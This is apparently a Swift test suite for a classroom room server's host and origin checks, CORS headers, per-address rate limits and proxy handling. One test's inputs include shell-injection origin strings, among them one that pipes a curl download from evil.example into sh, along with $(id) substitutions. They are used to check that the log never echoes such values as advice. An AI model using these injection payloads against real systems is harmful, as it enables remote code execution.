import RoomServer
import SharedRoom
import Testing

@testable import WebServer

@Test(arguments: [
    "evil.example", "evil.example:80", "127.0.0.1.evil.example", "localhost.evil.example",
])
func `a host name that is not the server's is refused`(host: String) throws {
    let server = try TestServer()
    let page = try server.get("/", host: host)
    #expect(page.status == 403)
    let line = try server.log.line(with: "Host")
    #expect(line.contains("--public-url http://\(host) would allow it"))
    #expect(try WebSocket(server, host: host).status == 403)
}

@Test(arguments: [
    "localhost", "LOCALHOST:8080", "10.1.2.3", "[fd00::2]:8080", "calc.example", "calc.example.",
])
func `IP addresses, localhost and the public host name are accepted`(host: String) throws {
    let server = try TestServer { $0.publicURL = "https://calc.example" }
    #expect(try server.get("/", host: host).status == 200)
}

/// The log of a server that has refused a WebSocket with this origin.
private func refusal(ofOrigin origin: String) throws -> String {
    let server = try TestServer()
    let headers = ["Sec-WebSocket-Protocol: calcroom.v1", "Origin: \(origin)"]
    #expect(try WebSocket(server, headers: headers).status == 403)
    return try server.log.line(with: "page")
}

@Test(arguments: [
    "https://evil.example", "http://127.0.0.1:1", "http://127.0.0.1.evil.example",
    "HTTPS://[fd00::2]:8443",
])
func `a page of another server cannot open a room, and the log names the option that allows it`(
    origin: String
) throws {
    #expect(try refusal(ofOrigin: origin).contains("--origin \(origin) would allow it"))
}

/// Somebody may copy the advice into a shell.
@Test(arguments: [
    "null", "http://localhost/", "http://localhost/evil", "http://evil@localhost", "localhost",
    "http://x;curl${IFS}evil.example|sh", "http://$(id)", "http://`id`", "http://x y", "http://x'",
    "http://x:80&id", "https://*.example",
])
func `the log repeats no origin that the option would not accept`(origin: String) throws {
    #expect(try !refusal(ofOrigin: origin).contains("--origin"))
}

@Test func `pages of this server and of allowed origins can open rooms`() throws {
    let server = try TestServer {
        $0.origins = ["https://school.example"]
        $0.publicURL = "https://calc.example"
    }
    let own = "127.0.0.1:\(server.port)"
    for (origin, host) in [
        ("http://\(own)", own), ("https://school.example", own), ("https://calc.example", own),
        ("https://SCHOOL.example:443", own), ("https://10.1.2.3", "10.1.2.3"),
    ] {
        let headers = ["Sec-WebSocket-Protocol: calcroom.v1", "Origin: \(origin)"]
        #expect(try WebSocket(server, host: host, headers: headers).status == 101, "\(origin)")
    }
}

@Test func `a script of another page learns from a room's page whether it may open the room`()
    throws
{
    let server = try TestServer { $0.origins = ["https://school.example"] }
    for (path, origin, status) in [
        ("/rooms/7b", "https://school.example", 200), ("/rooms/7b", "https://evil.example", 403),
        ("/rooms/7b", "null", 403), ("/rooms/a%20b", "https://school.example", 404),
        ("/rooms/7b/nothing", "https://school.example", 404),
    ] {
        let page = try server.get(path, headers: ["Origin: \(origin)"])
        #expect(page.status == status, "\(path) \(origin)")
        #expect(page["Access-Control-Allow-Origin"] == "*", "\(path) \(origin)")
    }
    for path in ["/", "/rooms/7b/state", "/rooms/7b/qr.svg", "/metrics"] {
        let other = try server.get(path, headers: ["Origin: https://school.example"])
        #expect(other["Access-Control-Allow-Origin"] == nil, "\(path)")
    }
    #expect(try server.get("/rooms/7b")["Access-Control-Allow-Origin"] == nil)
}

@Test func `a script of another page learns how long to wait`() throws {
    let server = try TestServer {
        $0.origins = ["https://school.example"]
        $0.addressLimits.answerBytesPerMinute = 1_000
    }
    let headers = ["Origin: https://school.example"]
    #expect(try server.get("/rooms/7b", headers: headers).status == 200)
    let refused = try server.get("/rooms/7b", headers: headers)
    #expect(refused.status == 429 && refused["Retry-After"] != nil)
    #expect(refused["Access-Control-Allow-Origin"] == "*")
    #expect(refused["Access-Control-Expose-Headers"] == "Retry-After")
    let document = try server.get("/rooms/7b/state", headers: headers)
    #expect(document.status == 429 && document["Access-Control-Allow-Origin"] == nil)
}

@Test func `joins and wrong codes of an address are limited per minute`() throws {
    let busy = try TestServer { $0.addressLimits.joinsPerMinute = 2 }
    #expect(try (0..<3).map { _ in try WebSocket(busy).status } == [101, 101, 429])
    let refused = try busy.get("/rooms/7b/qr.svg")
    let seconds = try #require(refused["Retry-After"].flatMap { Int($0) })
    #expect(refused.status == 429 && (1...30).contains(seconds))
    let sentence = "The limit joinsPerMinute has been reached. Try again in \(seconds) s."
    #expect(refused.body == sentence + "\n")
    let guessing = try TestServer { $0.addressLimits.wrongCodesPerMinute = 2 }
    for code in ["K7M2QX", "K7M2QY"] {
        let socket = try WebSocket(guessing, "/rooms/\(code)")
        try socket.join("a")
        #expect(try socket.receiveClose().code == 4004)
    }
    #expect(try WebSocket(guessing).status == 429)
}

@Test(
    arguments: [
        (["K7-QX-2M", "k7qx2m", "k7qx2n"], 2), (["k71i2m", "k7ll2m"], 1),
        (["k7qx2m", "k7-qx2m"], 2),
        (["k7-qx2m", "k7qx2m", "k7qx2m"], 2), (["k7-qx2m", "k7qx2n", "k7qx2m"], 3),
        (["--", "-"], 2),
    ] as [([String], Int64)])
func `a name and the code that it may stand for count as one wrong code`(
    names: [String], count: Int64
) throws {
    let address = try #require(ClientAddress(forwarded: "192.0.2.1"))
    for (allowed, isAdmitted) in [(count, false), (count + 1, true)] {
        var limits = AddressLimits()
        limits.wrongCodesPerMinute = allowed
        var book = AddressLimiter(limits)
        for name in names {
            book.noteWrongCode(try #require(RoomAddress.name(name)), from: address, at: 0)
        }
        let limit = book.admitJoin(from: address, at: 0)
        #expect((limit == nil) == isAdmitted)
    }
}

@Test func `a refused client learns when it may try again`() throws {
    let address = try #require(ClientAddress(forwarded: "192.0.2.1"))
    let room = try #require(RoomAddress.name("7b"))
    var limits = AddressLimits()
    (limits.joinsPerMinute, limits.wrongCodesPerMinute) = (2, 1)
    limits.answerBytesPerMinute = 6_000
    (limits.documentStepsPerMinute, limits.roomDocumentStepsPerMinute) = (60, 120)
    var book = AddressLimiter(limits)
    func join(at now: Int64) -> ReachedLimit? { book.admitJoin(from: address, at: now) }
    func answer(at now: Int64) -> ReachedLimit? { book.answerLimit(of: address, at: now) }
    func document(_ steps: Int64) -> ReachedLimit? {
        book.admitDocument(steps, of: room, from: address, at: 100_010)
    }
    #expect([join(at: 0), join(at: 0)] == [nil, nil])
    #expect(join(at: 10_000) == ReachedLimit(limit: .joinsPerMinute, retry: 20_000))
    #expect(join(at: 30_000) == nil)
    book.noteWrongCode(room, from: address, at: 30_000)
    #expect(join(at: 40_000) == ReachedLimit(limit: .wrongCodesPerMinute, retry: 50_000))
    // These buckets may be overdrawn.
    #expect(answer(at: 40_000) == nil)
    book.chargeAnswer(11_000, from: address, at: 40_000)
    #expect(answer(at: 40_000) == ReachedLimit(limit: .answerBytesPerMinute, retry: 60_010))
    #expect(answer(at: 100_010) == nil)
    #expect(document(100) == nil)
    #expect(document(1) == ReachedLimit(limit: .documentStepsPerMinute, retry: 41_000))
    let reply = RequestRefusal(because: ReachedLimit(limit: .joinsPerMinute, retry: 1)).response
    #expect(reply.headers.last?.name == "Retry-After" && reply.headers.last?.value == "1")
}

@Test func `a class of 60 behind one address stays below the limits`() {
    var book = AddressLimiter(AddressLimits())
    guard let address = ClientAddress(forwarded: "192.0.2.1") else { return }
    // Two devices each, eight connections at once, and all of them reload ten times in a minute.
    let admitted = (0..<(60 * 2 * 8)).filter { _ in book.admitConnection(from: address) }
    let joined = (0..<(60 * 2 * 10)).filter { _ in book.admitJoin(from: address, at: 0) == nil }
    #expect(admitted.count == 960 && joined.count == 1_200)
    for device in 0..<(60 * 2) {
        // A first visit and ten reloads, each with fifty requests.
        book.chargeAnswer(180_000, from: address, at: 0)
        for _ in 0..<(11 * 50) { book.chargeAnswer(200, from: address, at: 0) }
        let limit = book.answerLimit(of: address, at: 0)
        #expect(limit == nil, "\(device)")
    }
    // Everybody downloads the longest lesson twice, while its keys are sines.
    guard let room = RoomAddress.name("7b") else { return }
    for _ in 0..<(60 * 2) {
        let steps = StoredDocument.lessonCSV.stepsMax(DocumentQuery())
        let limit = book.admitDocument(steps, of: room, from: address, at: 0)
        #expect(limit == nil)
        book.chargeDocument(1_000_000, of: room, from: address, at: 0)
    }
}

@Test func `TLS handshakes of an address are limited`() throws {
    // A school reconnects.
    #expect(AddressLimits().tlsHandshakesPerMinute >= 1_000)
    let certificates = try TestCertificates()
    let server = try TestServer {
        $0.certificate = certificates.files
        $0.addressLimits.tlsHandshakesPerMinute = 2
    }
    func connect(from origin: UInt32) -> Socket? {
        try? Socket(port: server.port, from: origin, authority: certificates.authority)
    }
    let own = (0..<3).map { _ in connect(from: 0x7F00_0001) != nil }
    #expect(own == [true, true, false])
    #expect(connect(from: 0x7F00_0002) != nil)
    _ = try server.log.line(with: "tlsHandshakesPerMinute")
}

@Test func `a connection is closed after a limit is reached`() throws {
    let server = try TestServer { $0.addressLimits.joinsPerMinute = 1 }
    let socket = try Socket(port: server.port)
    let request = "GET /rooms/7b/qr.svg HTTP/1.1\r\nHost: localhost\r\n\r\n"
    try socket.send(String(repeating: request, count: 3))
    let heads = try socket.readToEnd().text.matches(of: /HTTP\/1.1 ([0-9]+)/).map(\.1)
    #expect(heads == ["200", "429"])
}

@Test(arguments: ["/healthz", "/parts/app.js"])
func `an address that requests without end is refused, and others are not`(path: String) throws {
    let server = try TestServer { $0.addressLimits.answerBytesPerMinute = 8_000 }
    func status(from address: UInt32) throws -> Int {
        let socket = try Socket(port: server.port, from: address)
        try socket.send("GET \(path) HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        let head = try socket.read(through: "\r\n")
        return try #require(Int(head.split(separator: " ")[1]))
    }
    var count = 0
    while try status(from: 0x7F00_0001) == 200 { count += 1 }
    #expect(try status(from: 0x7F00_0001) == 429)
    #expect(try status(from: 0x7F00_0002) == 200)
    // A response costs its bytes, and something even without.
    #expect(path == "/healthz" ? (4...8).contains(count) : (2...4).contains(count))
    _ = try server.log.line(with: "answerBytesPerMinute")
}

@Test func `documents of an address and of a room are limited by what reading them costs`() throws {
    var limits = AddressLimits()
    limits.documentStepsPerMinute = 6_000
    limits.roomDocumentStepsPerMinute = 10_000
    var book = AddressLimiter(limits)
    let addresses = try (1...3).map { try #require(ClientAddress(forwarded: "192.0.2.\($0)")) }
    let room = try #require(RoomAddress.name("7b"))
    func limit(_ index: Int, at now: Int64 = 0) -> ClientLimit? {
        book.admitDocument(4_000, of: room, from: addresses[index], at: now)?.limit
    }
    #expect([limit(0), limit(0), limit(0)] == [nil, nil, .documentStepsPerMinute])
    #expect([limit(1), limit(2)] == [nil, .roomDocumentStepsPerMinute])
    #expect(limit(0, at: 20_100) == nil)
    // What becomes known later counts, too.
    book.chargeDocument(60_000, of: room, from: addresses[1], at: 60_000)
    #expect(limit(1, at: 120_000) == .documentStepsPerMinute)
}

@Test func `an address that reads many large documents is refused, and others are not`() throws {
    let (server, ada) = try TestServer.withRoom {
        $0.trustsProxy = true
        $0.addressLimits.documentStepsPerMinute = 25_000_000
    }
    defer { withExtendedLifetime(ada) {} }
    func status(from address: String) throws -> Int {
        try server.get(
            "/rooms/7b/lesson.csv", headers: ["X-Forwarded-For: \(address)"]
        ).status
    }
    let statuses = try (0..<4).map { _ in try status(from: "192.0.2.1") }
    #expect(statuses == [200, 200, 200, 429])
    #expect(try status(from: "192.0.2.2") == 200)
    _ = try server.log.line(with: "documentStepsPerMinute")
}

@Test func `an inactive address is forgotten`() throws {
    var book = AddressLimiter(AddressLimits())
    for number in 0..<100 {
        let address = try #require(ClientAddress(forwarded: "192.0.2.\(number)"))
        let limit = book.admitJoin(from: address, at: 0)
        #expect(limit == nil)
    }
    let last = try #require(ClientAddress(forwarded: "198.51.100.1"))
    _ = book.admitJoin(from: last, at: 120_000)
    #expect(book.count == 1)
}

@Test func `an address without joins is forgotten with its last connection`() throws {
    var book = AddressLimiter(AddressLimits())
    let address = try #require(ClientAddress(forwarded: "192.0.2.1"))
    for _ in 0..<2 { _ = book.admitConnection(from: address) }
    book.releaseConnection(from: address, at: 0)
    #expect(book.count == 1)
    book.releaseConnection(from: address, at: 0)
    #expect(book.count == 0 && book.connectionCount == 0)
    _ = book.admitConnection(from: address)
    book.noteWrongCode(try #require(RoomAddress.name("7b")), from: address, at: 0)
    book.releaseConnection(from: address, at: 0)
    #expect(book.count == 1)
}

@Test(arguments: [
    ("192.0.2.1", "192.0.2.1"), ("10.0.0.1, 192.0.2.1", "192.0.2.1"),
    ("2001:db8:1:2:3:4:5:6", "2001:db8:1:2::"), ("2001:db8::6", "2001:db8:0:0::"),
    ("::ffff:192.0.2.1", "192.0.2.1"),
])
func `the forwarded address is the last one, and an IPv6 network has one address`(
    header: String, address: String
) {
    #expect(ClientAddress(forwarded: header)?.text == address)
    #expect(ClientAddress(forwarded: "evil, unknown") == nil)
}

@Test func `clients behind a trusted proxy are counted by their own addresses`() throws {
    let server = try TestServer {
        $0.trustsProxy = true
        $0.addressLimits.joinsPerMinute = 1
    }
    func status(from address: String) throws -> Int {
        let headers = ["Sec-WebSocket-Protocol: calcroom.v1", "X-Forwarded-For: \(address)"]
        return try WebSocket(server, headers: headers).status
    }
    #expect(try status(from: "192.0.2.1") == 101)
    #expect(try status(from: "192.0.2.2") == 101)
    #expect(try status(from: "192.0.2.9, 192.0.2.1") == 429)
}

@Test func `the log has the addresses of clients behind a trusted proxy`() throws {
    let lines = LogLines()
    let server = try TestServer {
        $0.trustsProxy = true
        $0.addressLimits.connectionsMax = 0
        $0.log = ServerLog(.text, showsAddresses: true) { lines.append($0) }
    }
    let headers = ["X-Forwarded-For: 192.0.2.1"]
    #expect(try server.get("/", host: "evil.example", headers: headers).status == 403)
    #expect(try lines.line(with: "unknown Host").contains("https://evil.example"))
    #expect(try server.get("/rooms/7b/log", headers: headers).status == 429)
    for part in ["unknown Host", "connectionsPerAddressMax"] {
        #expect(try lines.line(with: part).hasSuffix("from 192.0.2.1"))
    }
}

@Test func `an operator can set every limit by its name`() {
    let names = Mirror(reflecting: ServiceLimits()).children.compactMap(\.label)
    let own = [
        "connectionsPerAddressMax", "waitingPerAddressMax", "waitingMax", "tlsHandshakesPerMinute",
        "joinsPerMinute", "wrongCodesPerMinute", "answerBytesPerMinute", "documentStepsPerMinute",
        "roomDocumentStepsPerMinute",
    ]
    #expect(Set(ServerConfiguration.limitNames) == Set(names + own))
    #expect(ServerConfiguration.limitNames.count == names.count + own.count)
    // Clients meet no other limits.
    #expect(Set(ClientLimit.allCases.map(\.rawValue)).isSubset(of: names + own))
    for name in ServerConfiguration.limitNames {
        var configuration = ServerConfiguration(
            staticFolder: "", log: ServerLog(.text, showsAddresses: false) { _ in })
        let before = configuration.limits
        configuration.setLimit(name, to: 77)
        let labels = Mirror(reflecting: configuration.limits).children.filter { child in
            "\(child.value)" == "77"
        }.compactMap(\.label)
        #expect(labels == (configuration.limits == before ? [] : [name]))
        #expect(configuration.limits != before || configuration.addressLimits != AddressLimits())
    }
}

@Test func `a server that listens only on IPv4 has no URL with an IPv6 address`() throws {
    let server = try TestServer { $0.host = "0.0.0.0" }
    let urls = ServerURLs.network(server.server.configuration, 80)
    #expect(!urls.contains { $0.contains("[") })
}
